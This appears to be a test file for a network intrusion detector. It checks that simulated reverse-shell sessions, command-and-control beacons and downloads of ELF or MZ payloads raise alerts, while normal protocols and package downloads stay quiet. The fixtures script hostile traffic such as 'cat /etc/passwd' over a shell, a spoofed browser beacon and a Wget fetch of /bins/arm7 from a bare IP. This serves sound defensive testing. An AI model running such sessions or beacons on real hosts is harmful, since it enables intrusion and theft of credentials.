/** Shells, remote control and transfers of malware as bytes on the wire, through parsers and all detectors. */
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { Alert } from '../../../../contract/domain.ts';
import { type Said, Wire } from './wire-testing.ts';

const HOST = '10.0.0.7';
const OTHER = '203.0.113.9';

function alertsOf(port: number, says: readonly Said[]): readonly Alert[] {
  const wire = new Wire();
  wire.talk({ from: HOST, to: OTHER, port }, says);
  return wire.finish();
}

const kindsOf = (alerts: readonly Alert[]) => alerts.map(({ kind }) => kind);
const notable = (alerts: readonly Alert[]) =>
  alerts.filter(({ severity }) => severity !== 'low' && severity !== 'info');

function noise(length: number): Uint8Array {
  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, i) => createHash('sha256').update(`${i}`).digest());
  return Buffer.concat(blocks).subarray(0, length);
}

function post(path: string, headers: string, body: string): string {
  return `> POST ${path} HTTP/1.1\r\n${headers}Content-Length: ${body.length}\r\n\r\n${body}`;
}

const BROWSER = 'User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko\r\n';

describe('a shell on the wire', () => {
  it.each<[string, Said[]]>([
    ['sh', ['< id\n', '> uid=33(www-data) gid=33(www-data)\n', 2, '< uname -a\n', '> Linux web 6.1.0 x86_64\n']],
    ['bash', ['> bash: no job control in this shell\n', '> www-data@web:/$ ', 3, '< ls\n', '> ls\r\nbin\r\n']],
    ['cmd', ['> Microsoft Windows [Version 10.0.19045.1]\r\n\r\nC:\\Users\\ann>', 3, '< whoami\n', '> corp\\ann\r\n']],
    [
      'sh with a prompt only',
      ['> $ ', 2, '< whoami\n', '> root\n$ ', 2, '< cat /etc/passwd\n', '> root:x:0:0:root\n$ '],
    ],
  ])('of %s is told, whatever the port', (_name, says) => {
    for (const port of [4444, 443, 53, 8080]) {
      const alert = alertsOf(port, says).find(({ kind }) => kind === 'reverse-shell');
      expect(alert, `port ${port}`).toMatchObject({ attackers: [OTHER], victims: [HOST], severity: 'high' });
    }
  });

  it.each<[string, number, Said[]]>([
    ['SMTP', 25, ['< 220 mx ESMTP\r\n', '> EHLO a\r\n', '< 250 mx\r\n', '> QUIT\r\n', '< 221 bye\r\n']],
    ['FTP', 21, ['< 220 ftp\r\n', '> USER ann\r\n', '< 331 name okay\r\n', '> PWD\r\n', '< 257 "/"\r\n']],
    ['IRC', 6667, ['> NICK ann\r\nUSER ann 0 * :ann\r\n', '< :irc 001 ann :hi\r\n', '> PRIVMSG #x :id whoami\r\n']],
    [
      'telnet',
      23,
      [['<', Uint8Array.of(0xff, 0xfd, 0x18)], '< login: ', '> ann\r\n', '< $ ', '> id\r\n', '< uid=1(ann) gid=1\r\n'],
    ],
    [
      'HTTP',
      80,
      ['> GET /id HTTP/1.1\r\nHost: a.example\r\n\r\n', '< HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nid\n'],
    ],
  ])('is not seen in %s', (_name, port, says) => {
    expect(kindsOf(alertsOf(port, says))).not.toContain('reverse-shell');
  });
});

describe('remote control on the wire', () => {
  it('over HTTP is told by a token, a false browser and an encrypted page', () => {
    const call = [
      `> GET /admin/get.php HTTP/1.1\r\nCookie: session=PUunM3Evfi7eNGnewIf2TSOx7U8=\r\n${BROWSER}Host: ${OTHER}\r\n\r\n`,
      '< HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 2000\r\n\r\n',
      ['<', noise(2_000)],
    ] as const;
    const alert = alertsOf(80, call).find(({ kind }) => kind === 'command-and-control');
    expect(alert).toMatchObject({ attackers: [OTHER], victims: [HOST], severity: 'medium' });
  });

  it('over a bare connection is told by the stage', () => {
    const length = Buffer.alloc(4);
    length.writeUInt32LE(5_000);
    const stage = Buffer.concat([Buffer.from('MZ'), noise(4_998)]);
    const alert = alertsOf(4444, [
      ['<', length],
      ['<', stage],
    ]).find(({ kind }) => kind === 'command-and-control');
    expect(alert).toMatchObject({ attackers: [OTHER], victims: [HOST], severity: 'medium' });
  });

  it('is not seen in forms of web pages, telemetry or look-ups of certificates', () => {
    const languages = 'Accept-Language: en\r\nAccept-Encoding: gzip\r\n';
    const form = 'Content-Type: application/x-www-form-urlencoded\r\n';
    const state = `__VIEWSTATE=${encodeURIComponent(Buffer.from(noise(400)).toString('base64'))}`;
    const ok: Said = '< HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n<html></html>';
    const page = post('/default.aspx', `Host: shop.example\r\n${BROWSER}${languages}${form}`, state);
    const json = post(
      '/v1/e',
      'Host: t.example\r\nUser-Agent: App/1\r\nContent-Type: application/json\r\n',
      '{"os":"linux"}',
    );
    expect(notable(alertsOf(80, [page, ok, json, ok]))).toEqual([]);
  });
});

describe('a transfer on the wire', () => {
  const program = Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), noise(3_000)]);

  it('of a program from a bare address is told with its hash', () => {
    const says: Said[] = [
      `> GET /bins/arm7 HTTP/1.1\r\nHost: ${OTHER}\r\nUser-Agent: Wget/1.20\r\n\r\n`,
      `< HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${program.length}\r\n\r\n`,
      ['<', program],
    ];
    const alert = alertsOf(80, says).find(({ kind }) => kind === 'malware-transfer');
    expect(alert).toMatchObject({ attackers: [OTHER], victims: [HOST], severity: 'medium' });
    const sha256 = createHash('sha256').update(program).digest('hex');
    expect(alert?.evidence.map(({ value }) => value)).toContain(sha256);
  });

  it('of a package by name is left in peace', () => {
    const deb = Buffer.concat([Buffer.from('!<arch>\ndebian-binary   '), noise(2_000)]);
    const says: Said[] = [
      '> GET /debian/pool/b/bash.deb HTTP/1.1\r\nHost: deb.example.org\r\nUser-Agent: Debian APT-HTTP/1.3\r\n\r\n',
      `< HTTP/1.1 200 OK\r\nContent-Type: application/x-debian-package\r\nContent-Length: ${deb.length}\r\n\r\n`,
      ['<', deb],
    ];
    expect(notable(alertsOf(80, says))).toEqual([]);
  });
});
